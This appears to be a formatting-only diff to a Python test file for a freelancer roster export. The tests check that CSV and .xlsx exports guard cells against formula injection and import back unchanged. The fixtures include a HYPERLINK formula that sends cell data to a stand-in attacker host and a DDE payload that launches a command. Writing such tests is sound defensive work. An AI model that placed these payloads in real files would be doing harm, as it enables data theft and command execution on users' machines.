@@ -1,5 +1,6 @@
 """GET /api/freelancers/export: the roster as .xlsx or CSV, every value text (never a formula), and an
 export imports back unchanged."""
+
 from __future__ import annotations
 
 import csv
@@ -15,12 +16,12 @@ from tests.roster.files import person
 
 RISKY = [
     ("name", '=HYPERLINK("http://evil.example/?d="&A1,"Click")'),  # a formula that would run
-    ("business_name", "+cmd|' /C calc'!A0"),                        # DDE through a leading +
-    ("business_name", "-2+3"),                                       # a leading minus
-    ("business_name", "@SUM(1+1)"),                                  # a leading @
-    ("phone", "+1 206 555 0134"),                                    # a phone number starts with + too
-    ("tax_id", "-12345"),                                            # an id that looks like a negative number
-    ("address", "=1+1\nSeattle"),                                    # a formula on the first of several lines
+    ("business_name", "+cmd|' /C calc'!A0"),  # DDE through a leading +
+    ("business_name", "-2+3"),  # a leading minus
+    ("business_name", "@SUM(1+1)"),  # a leading @
+    ("phone", "+1 206 555 0134"),  # a phone number starts with + too
+    ("tax_id", "-12345"),  # an id that looks like a negative number
+    ("address", "=1+1\nSeattle"),  # a formula on the first of several lines
 ]
 
 
@@ -28,9 +29,22 @@ RISKY = [
 def risky_roster(add) -> list[dict]:
     """One freelancer per risky value, plus one with every optional field filled and a multi-line address."""
     records = [add(person(i, **{field: value})) for i, (field, value) in enumerate(RISKY)]
-    records.append(add(person(99, business_name="Angstrom Design LLC", phone="+44 20 7946 0958", tax_id="GB123456789",
-                              rate="95.5", rate_unit="hour", currency="USD", skills=["Branding", "Logo design"],
-                              profile_url="https://www.upwork.com/freelancers/~01zoe", status="inactive")))
+    records.append(
+        add(
+            person(
+                99,
+                business_name="Angstrom Design LLC",
+                phone="+44 20 7946 0958",
+                tax_id="GB123456789",
+                rate="95.5",
+                rate_unit="hour",
+                currency="USD",
+                skills=["Branding", "Logo design"],
+                profile_url="https://www.upwork.com/freelancers/~01zoe",
+                status="inactive",
+            )
+        )
+    )
     return records
 
 
@@ -70,10 +84,20 @@ def test_the_csv_export_guards_formula_characters_with_an_apostrophe(client, ris
     full = by_email[person(99)["email"]]
     assert Decimal(full[HEADER.index("rate")]) == Decimal("95.5")
     assert dict(zip(HEADER, full)) | {"rate": "95.5"} == {
-        "name": "Freelancer 0099", "business_name": "Angstrom Design LLC", "email": "freelancer0099@example.org",
-        "phone": "'+44 20 7946 0958", "address": "99 Pike Street\nSeattle, WA 98101", "country": "US", "tax_id": "GB123456789",
-        "rate": "95.5", "rate_unit": "hour", "currency": "USD", "skills": "Branding; Logo design",
-        "profile_url": "https://www.upwork.com/freelancers/~01zoe", "status": "inactive"}
+        "name": "Freelancer 0099",
+        "business_name": "Angstrom Design LLC",
+        "email": "freelancer0099@example.org",
+        "phone": "'+44 20 7946 0958",
+        "address": "99 Pike Street\nSeattle, WA 98101",
+        "country": "US",
+        "tax_id": "GB123456789",
+        "rate": "95.5",
+        "rate_unit": "hour",
+        "currency": "USD",
+        "skills": "Branding; Logo design",
+        "profile_url": "https://www.upwork.com/freelancers/~01zoe",
+        "status": "inactive",
+    }
 
 
 def test_no_cell_of_either_export_starts_with_a_formula_character_unguarded(client, risky_roster):
@@ -106,7 +130,9 @@ def test_an_export_larger_than_one_read_batch_lists_everyone_once_by_name(client
 
 
 def test_an_empty_roster_exports_its_header_only(client):
-    assert [[value for value, _ in row] for row in _xlsx_rows(client.get("/api/freelancers/export").data)] == [list(HEADER)]
+    assert [[value for value, _ in row] for row in _xlsx_rows(client.get("/api/freelancers/export").data)] == [
+        list(HEADER)
+    ]
     assert client.get("/api/freelancers/export?format=csv").data.decode("utf-8-sig").splitlines() == [",".join(HEADER)]
 
 
@@ -116,24 +142,35 @@ def test_an_unknown_export_format_is_named(client):
     assert response.json["errors"][0]["field"] == "format"
 
 
-@pytest.mark.parametrize("format, filename", [
-    ("csv", "roster.csv"),    # CSV, apostrophes and all
-    ("xlsx", "roster.xlsx"),  # the workbook
-])
+@pytest.mark.parametrize(
+    "format, filename",
+    [
+        ("csv", "roster.csv"),  # CSV, apostrophes and all
+        ("xlsx", "roster.xlsx"),  # the workbook
+    ],
+)
 def test_an_export_imports_back_unchanged(client, upload, risky_roster, roster_state, format, filename):
     before = roster_state()
     exported = client.get(f"/api/freelancers/export?format={format}").data
     response = upload(exported, filename)
     assert response.status_code == 200, response.json
-    assert response.json == {"created": 0, "updated": 0, "unchanged": len(risky_roster), "dry_run": False,
-                             "ignored_columns": []}
+    assert response.json == {
+        "created": 0,
+        "updated": 0,
+        "unchanged": len(risky_roster),
+        "dry_run": False,
+        "ignored_columns": [],
+    }
     assert roster_state() == before
 
 
-@pytest.mark.parametrize("format, filename", [
-    ("csv", "roster.csv"),    # exported as '=... and imported as =...
-    ("xlsx", "roster.xlsx"),  # a text cell '=... imported as =...
-])
+@pytest.mark.parametrize(
+    "format, filename",
+    [
+        ("csv", "roster.csv"),  # exported as '=... and imported as =...
+        ("xlsx", "roster.xlsx"),  # a text cell '=... imported as =...
+    ],
+)
 def test_a_value_that_starts_with_an_apostrophe_survives_the_round_trip(client, upload, add, format, filename):
     record = add(person(1, business_name="'=quoted' Studio"))
     upload(client.get(f"/api/freelancers/export?format={format}").data, filename)
